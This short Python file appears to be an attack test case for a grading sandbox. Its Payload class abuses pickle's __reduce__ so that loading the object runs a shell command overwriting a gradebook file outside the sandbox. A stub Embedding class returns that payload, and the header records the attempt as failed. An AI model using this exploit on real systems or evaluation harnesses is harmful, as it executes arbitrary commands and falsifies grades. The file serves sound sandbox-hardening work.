# /// attack
# tries = "Returns an object whose pickle runs a command when it is loaded."
# status = "failed"
# says = "got an object of type Payload"
# ///
import os


class Payload:
    def __reduce__(self):
        return os.system, ("echo spoilt > @OUTSIDE@/gradebook.db",)

    __getstate__ = __reduce__

    def __reduce_ex__(self, protocol):
        return self.__reduce__()


class Embedding:
    def __init__(self, num_embeddings, embedding_dim): ...

    def forward(self, ids):
        return Payload()
